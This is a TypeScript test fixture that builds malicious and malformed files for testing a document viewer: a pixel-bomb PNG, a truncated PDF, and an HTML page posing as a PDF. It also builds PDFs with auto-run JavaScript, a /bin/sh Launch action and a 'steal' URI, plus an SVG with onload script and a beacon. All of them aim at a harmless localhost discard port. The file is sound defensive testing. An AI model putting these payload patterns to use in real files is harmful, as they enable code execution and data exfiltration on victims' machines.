/**
 * Broken and malicious files: those in the folder `hostile` of EVIDENCE_CORPUS, else the few that
 * can be made here.
 */
import { readdir, readFile } from 'node:fs/promises'
import { extname, join } from 'node:path'
import { makePdf, type TestFile } from './documents.ts'

/** What a script inside a file would set the window's title to. */
export const ranTitle = 'ran'

/** Nobody listens there: port 9 discards. */
const elsewhere = 'http://127.0.0.1:9'
export const stealAddress = `${elsewhere}/steal`

/** As the office's system would call them: by the ending of the name. */
const mediaTypes: Record<string, string> = {
  '.pdf': 'application/pdf',
  '.png': 'image/png',
  '.svg': 'image/svg+xml',
}

const file = (name: string, content: Buffer | string): TestFile => ({
  name,
  mediaType: mediaTypes[extname(name)] ?? 'application/octet-stream',
  bytes: Buffer.from(content),
})

const damaged = /cannot be shown: (it is damaged|its pages are damaged)/

/** What is told in place of each file, or that its pages can be read. */
export const shownFor: Record<string, RegExp | 'pages'> = {
  'bit-rot.pdf': damaged,
  'broken-png.png': /4295 megapixels/,
  'empty.pdf': /it is empty/,
  'html-named.pdf': /says it is a PDF document, but/,
  'huge-page.pdf': 'pages',
  'javascript.pdf': 'pages',
  'launch-and-uri.pdf': 'pages',
  'operator-bomb.pdf': /it took longer than 10 seconds/,
  'page-loop.pdf': damaged,
  'password-secret.pdf': /is locked/,
  'pixel-bomb.pdf': /image too large to be opened/,
  'script.svg': /nothing in it is run or loaded/,
  'truncated.pdf': damaged,
}

export async function hostileFiles(): Promise<TestFile[]> {
  const corpus = process.env['EVIDENCE_CORPUS']
  if (corpus === undefined || corpus === '') return makeHostileFiles()
  const folder = join(corpus, 'hostile')
  const names = (await readdir(folder)).toSorted()
  return Promise.all(names.map(async (name) => file(name, await readFile(join(folder, name)))))
}

async function makeHostileFiles(): Promise<TestFile[]> {
  const whole = await makePdf('truncated', 12)
  return [
    file('broken-png.png', makeEndlessPng()),
    file('empty.pdf', ''),
    file('html-named.pdf', `<!doctype html><script>document.title='${ranTitle}'</script>`),
    file('javascript.pdf', onePage({ catalog: `/OpenAction ${makeScript()}` })),
    file('launch-and-uri.pdf', onePage({ page: `/Annots [${makeLinks()}]` })),
    file('script.svg', makeSvg()),
    file('truncated.pdf', whole.subarray(0, whole.length / 2)),
  ]
}

/** A header that claims 65,535 pixels a side, and nothing after it. */
function makeEndlessPng(): Buffer {
  const header = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
  return Buffer.concat([header, Buffer.from('0000ffff0000ffff0802000000', 'hex')])
}

const makeSvg = () =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.document.title='${ranTitle}'">
<script>parent.document.title='${ranTitle}'</script><image href="${elsewhere}/beacon"/>
<text y="20">drawing</text></svg>`

const makeScript = () =>
  String.raw`<</S/JavaScript/JS(app.alert\("${ranTitle}"\); this.submitForm\("${elsewhere}/form"\);)>>`

const makeLinks = () =>
  [
    ['[60 700 300 740]', '/S/Launch/F(/bin/sh)'],
    ['[60 600 300 640]', `/S/URI/URI(${stealAddress})`],
  ]
    .map(([place, action]) => `<</Type/Annot/Subtype/Link/Rect${place}/A<<${action}>>>>`)
    .join('')

/** A PDF of one page that says “Evidence”, with more entries in its catalogue or its page. */
function onePage({ catalog = '', page = '' }: { catalog?: string; page?: string }): string {
  const drawing = 'BT /F 24 Tf 60 710 Td (Evidence) Tj ET'
  const objects = [
    `<</Type/Catalog/Pages 2 0 R ${catalog}>>`,
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R ${page}>>`,
    `<</Length ${drawing.length}>>\nstream\n${drawing}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ]
  let pdf = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const at = pdf.length
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const entries = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const count = objects.length + 1
  return (
    `${pdf}xref\n0 ${count}\n0000000000 65535 f \n${entries}` +
    `trailer\n<</Size ${count}/Root 1 0 R>>\nstartxref\n${pdf.length}\n%%EOF\n`
  )
}
